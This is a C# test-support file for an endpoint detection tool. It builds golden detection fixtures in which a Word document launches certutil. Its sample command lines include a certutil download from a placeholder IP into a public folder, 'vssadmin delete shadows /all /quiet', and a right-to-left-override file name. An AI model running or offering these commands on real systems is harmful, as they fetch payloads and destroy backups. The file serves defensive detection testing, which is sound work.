using System.Text;
using Changeling.Counts;
using Changeling.Events;
using Changeling.Exceptions;
using Changeling.Features;
using Changeling.Findings;
using Changeling.Rarity;
using Changeling.Rules;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Findings;

/// <summary>
/// The detections whose bytes are kept in <c>Findings/Golden</c>: the story's launch, and whatever a source may lack or send.
/// With <c>CHANGELING_REWRITE_GOLDEN=1</c> the files are written again, for review in the diff.
/// </summary>
internal static class GoldenDetections
{
    public const string Version = "0.0.0";

    private const string ByParent = "unusual-process-by-parent";

    private static readonly HostIdentity Workstation = new("ws-0417.corp.example", "f5e1c0a7d2b94c6e8a3b");

    /// <summary>Name → detection.</summary>
    public static IReadOnlyDictionary<string, Detection> All { get; } = new Dictionary<string, Detection>(StringComparer.Ordinal)
    {
        ["story"] = Of(Story),
        ["note-while-learning"] = Of(Story) with { IsLearning = true },
        ["no-user"] = Of(Story with { User = null, Host = new HostIdentity("ws-0417") }),
        ["user-without-name"] = Of(Story with { User = new UserIdentity(null, "CORP") }),
        ["nothing-but-names"] = Of(Bare with { Parent = new ParentProcess { Name = "winword.exe" } }),
        ["no-parent-no-identity"] = Of(Bare) with
        {
            Evidence = Evidence.Of(Bare, new Prediction(0.7, true)),
            UsualChildren = [],
            Reasons = [],
        },
        ["every-sign"] = EverySign,
        ["suppressed"] = Of(Story) with { Rules = [new(Rule(ByParent), Exceptions: Pki)] },
        ["one-rule-suppressed"] = Of(Story) with
        {
            Rules = DetectedRule.Ordered(
            [
                new(Rule("lolbin-by-unusual-parent"), new Quota(495_000, 0, 2)),
                new(Rule("suspicious-high-probability"), Exceptions: Pki),
                new(Rule(ByParent), Exceptions: new ExceptionEvidence(0, [], null)),
            ]),
        },
        ["near-exceptions"] = Of(Story) with
        {
            Rules =
            [
                new(Rule(ByParent), Exceptions: new ExceptionEvidence(
                    12,
                    [
                        new(Exception("exc-0031", "Certutil by the PKI agent"), "process.parent.name"),
                        .. Enumerable.Range(1, 9).Select(i => new NearMiss(Exception($"exc-{i}", new string('"', 128)), "expires")),
                    ],
                    null)),
            ],
        },
        ["import-hash-alone"] = Of(Story with { Child = Story.Child with { Hashes = new FileHashes(ImpHash: new string('4', 32)) } }),
        ["other-scripts"] = Of(Story with
        {
            User = new UserIdentity("Łucja.Żółw", "ΕΤΑΙΡΕΙΑ"),
            Child =
                Story.Child with { CommandLine = "certutil.exe -urlcache -f \"http://例え.example/\ud83d\ude00?a=1&b=<x>'\" \u202eexe.doc" },
        }),
        ["command-line-of-32-KB"] = Of(Story with
        {
            Child = Story.Child with { CommandLine = Hostile(32 * 1024) },
            Parent = Story.Parent! with { CommandLine = Hostile(9_000) },
        }),
    };

    /// <summary>Sums over many launches: they have no launch of their own.</summary>
    public static IReadOnlyDictionary<string, (
        RuleDefinition Rule, ClusterEvidence Evidence, ExceptionEvidence? Exceptions)> Clusters
    { get; } =
        new Dictionary<string, (RuleDefinition, ClusterEvidence, ExceptionEvidence?)>(StringComparer.Ordinal)
        {
            ["cluster-by-host"] = (Rule("suspicious-cluster-by-host"), Cluster(ClusterKind.Host, "web-0201.corp.example"), null),
            ["cluster-by-user"] = (Rule("suspicious-cluster-by-user"), Cluster(ClusterKind.User, @"corp\mara.lind"), null),
            ["cluster-by-parent"] = (Rule("suspicious-cluster-by-parent"), Cluster(ClusterKind.Parent, new string('"', 2_000)), null),
            ["cluster-suppressed"] = (
                Rule("suspicious-cluster-by-host"),
                Cluster(ClusterKind.Host, "build01"),
                new ExceptionEvidence(3, [], Exception("build-servers", "Builds start what looks bad"))),
        };

    /// <summary>All names.</summary>
    public static IEnumerable<string> Names => All.Keys.Concat(Clusters.Keys);

    private static Detection EverySign
    {
        get
        {
            var launch = Story with
            {
                Child = Story.Child with
                {
                    Name = "vssadmin.exe",
                    CommandLine = "vssadmin.exe delete shadows /all /quiet",
                    Path = @"C:\Users\Public\vssadmin.exe",
                },
            };
            var detection = Of(launch);
            return detection with
            {
                Rules = DetectedRule.Ordered(
                [
                    new(Rule("masquerade-by-renamed-binary"), new Quota(495_000, 0, 0)),
                    new(Rule("suspicious-high-probability"), new Quota(495_000, 1, 17)),
                    new(Rule(ByParent)),
                ]),
                Evidence = detection.Evidence with
                {
                    Hosts = new FleetOccurrence("ws-0417.corp.example", 3, true),
                    Users = new FleetOccurrence(@"corp\mara.lind", 32, false),
                },
            };
        }
    }

    private static ClusterEvidence Cluster(ClusterKind kind, string entity) =>
        new(kind, entity, Some.Time, 11, 9.4321, 0.02, 0.11, 96.04, ["certutil.exe", "reg.exe", "vssadmin.exe"]);

    private static ExceptionEvidence Pki => new(12, [], Exception("exc-0031", "Certutil by the PKI agent"));

    private static ExceptionItem Exception(string id, string name) => Tests.Exceptions.SomeExceptions.Item(id) with { Name = name };

    private static RuleDefinition Rule(string id) => RuleSet.Shipped.Definitions.Single(r => r.Id == id);

    private static ProcessEvent Story => new()
    {
        Time = Some.Time,
        Host = Workstation,
        User = new UserIdentity("mara.lind", "CORP", "S-1-5-21-1004336348-1177238915-682003330-1104"),
        Child = new ChildProcess
        {
            Name = "certutil.exe",
            Path = @"C:\Windows\System32\certutil.exe",
            CommandLine = @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt",
            Pid = 6284,
            Guid = "{8d3f21b6-5c43-690a-9b01-000000002f00}",
            OriginalFileName = "CertUtil.exe",
            Hashes = new FileHashes(new string('1', 32), new string('2', 40), new string('3', 64)),
            Integrity = IntegrityLevel.Medium,
        },
        Parent = new ParentProcess
        {
            Name = "winword.exe",
            Path = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            CommandLine = @"""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"" /n ""C:\Users\mara.lind\Downloads\offer.docm""",
            Pid = 9120,
            Guid = "{8d3f21b6-5c1f-690a-8c01-000000002f00}",
        },
        Format = SourceFormats.Winlogbeat,
        SourceIdentity = "sysmon-1|ws-0417.corp.example|{8d3f21b6-5c43-690a-9b01-000000002f00}",
    };

    private static ProcessEvent Bare => new()
    {
        Time = Some.Time,
        Host = new HostIdentity("ws-0417"),
        Child = new ChildProcess { Name = "certutil.exe" },
        Format = SourceFormats.Winlogbeat,
        Notes = EventNotes.ParentInvalid | EventNotes.TimeSuspect,
    };

    /// <summary>The bytes as the app would commit them.</summary>
    public static byte[] Write(Detection detection, DetectionFormat format) => format == DetectionFormat.Ecs
        ? new EcsWriter(RuleSet.Shipped.Attack, Version).Write(detection)
        : new FindingWriter(RuleSet.Shipped.Attack, Version).Write(detection);

    /// <summary>The bytes of a detection by its name here.</summary>
    public static byte[] Write(string name, DetectionFormat format) => Clusters.TryGetValue(name, out var cluster)
        ? new ClusterFindingWriter(RuleSet.Shipped.Attack, format, Version)
            .Write(cluster.Rule, cluster.Evidence, isAlert: cluster.Exceptions?.Matched is null, cluster.Exceptions)
        : Write(All[name], format);

    public static string Read(string name, DetectionFormat format) => File.ReadAllText(PathOf(name, format)).TrimEnd('\n');

    public static void Rewrite(string name, DetectionFormat format, byte[] bytes) =>
        File.WriteAllBytes(PathOf(name, format), [.. bytes, (byte)'\n']);

    /// <summary>A detection of rule 1 on an event, with counts that no estimator has a part in.</summary>
    public static Detection Of(ProcessEvent e) => new()
    {
        Rules = [new(Rule(ByParent))],
        Acts = ActList.Of(e, RuleSet.Shipped.Attack),
        Evidence = Evidence.Of(e, new Prediction(0.97314, true)) with
        {
            Rarity = new RarityRating
            {
                Score = 92.914,
                Surprise = 5.50864,
                Share = 0.00019204,
                Lineage = Lineage.Of(e.Parent?.Name ?? "winword.exe", e.Child.Name),
                ChildCount = 0,
                ParentCount = 18_204.25,
                DistinctChildren = 41,
                ParentFirstSeen = new DateTimeOffset(2026, 9, 18, 6, 2, 11, TimeSpan.Zero),
                PriorWeight = 1,
                Confidence = HistoryConfidence.Settled,
            },
        },
        Model = new ModelIdentity("2026.11.1", new string('a', 64), 2, 0.62),
        Reasons =
        [
            new("behaviour.web_address", 1.8204)
            {
                Text = Start(e.Child.CommandLine),
                Description = $"web address in {Start(e.Child.CommandLine)}",
            },
            new("parent.kind.office", 0.9612) { Description = "Office program as the parent" },
            new("child.known", -0.25) { Description = "known program of Windows" },
        ],
        UsualChildren = [Usual("splwow64.exe", 9_120), Usual("msedge.exe", 6_011), Usual("ai.exe", 1_450)],
        Partition = new EventPartition("telemetry", "3"),
        Position = new Position(0, 88_120_417, 0),
        EnqueuedTime = Some.Time.AddSeconds(40).AddMilliseconds(518),
        IsLearning = false,
        Alerts = AlertKind.Findings,
        HalfLifeDays = 30,
    };

    /// <summary>
    /// What breaks an encoder, over and over: quotes, backslashes, lone surrogates, separators that JavaScript minds, control characters.
    /// </summary>
    private static string Hostile(int units)
    {
        const string piece = "\"\\'\ud800<\u2028\u2029&\u0000\u001b\u007f\udc00\u0085\ufeff%\ud83d\ude00é";
        var text = new StringBuilder("certutil.exe ", units + piece.Length);
        while (text.Length < units) text.Append(piece);
        return text.ToString(0, units);
    }

    private static string? Start(string? text) => text is { Length: > 40 } ? text[..40] : text;

    private static CountRow Usual(string child, int launches)
    {
        var history = new ParentHistory("winword.exe", [], HalfLife.Never);
        for (var i = 0; i < launches; i++) history.Count(child, Some.Time, 0);
        return history.Children.Single();
    }

    private static string PathOf(string name, DetectionFormat format) =>
        RepositoryRoot.Combine("tests", "Core.Tests", "Findings", "Golden", $"{name}.{format.ToString().ToLowerInvariant()}.json");
}
